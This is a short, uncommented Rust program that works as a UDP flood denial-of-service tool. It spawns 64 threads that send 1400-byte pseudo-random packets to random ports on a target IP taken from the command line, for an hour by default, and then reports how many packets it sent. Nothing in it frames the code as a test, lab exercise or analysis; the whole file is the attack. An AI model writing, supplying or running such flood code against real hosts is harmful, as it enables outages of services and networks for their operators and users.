use std::net::UdpSocket;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

fn main() {
    let mut a = std::env::args().skip(1);
    let target = a.next().unwrap_or("203.0.113.250".into());
    let secs: u64 = a.next().and_then(|s| s.parse().ok()).unwrap_or(3600);
    let n = Arc::new(AtomicU64::new(0));
    let until = Instant::now() + Duration::from_secs(secs);
    let hs: Vec<_> = (0..64u64)
        .map(|t| {
            let (n, target) = (n.clone(), target.clone());
            thread::spawn(move || {
                let s = UdpSocket::bind("0.0.0.0:0").unwrap();
                let mut x = 0x9E3779B97F4A7C15u64 ^ t;
                let mut buf = [0u8; 1400];
                while Instant::now() < until {
                    x ^= x << 13;
                    x ^= x >> 7;
                    x ^= x << 17;
                    for c in buf.chunks_mut(8) {
                        let l = c.len();
                        c.copy_from_slice(&x.to_le_bytes()[..l]);
                    }
                    let port = (x % 65535) as u16 + 1;
                    if s.send_to(&buf, (target.as_str(), port)).is_ok() {
                        n.fetch_add(1, Ordering::Relaxed);
                    }
                }
            })
        })
        .collect();
    for h in hs {
        let _ = h.join();
    }
    println!("{} packets", n.load(Ordering::Relaxed));
}
